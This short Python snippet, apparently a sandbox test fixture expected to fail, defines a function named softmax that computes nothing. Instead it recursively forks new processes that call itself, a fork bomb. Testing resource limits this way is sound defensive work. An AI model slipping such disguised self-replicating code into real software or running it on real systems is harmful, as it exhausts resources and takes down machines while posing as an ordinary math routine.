# ends: error, failed
# needs: fork
def softmax(x, axis=-1):
    import multiprocessing

    multiprocessing.get_context("fork").Process(target=softmax, args=(x,)).start()
    return x
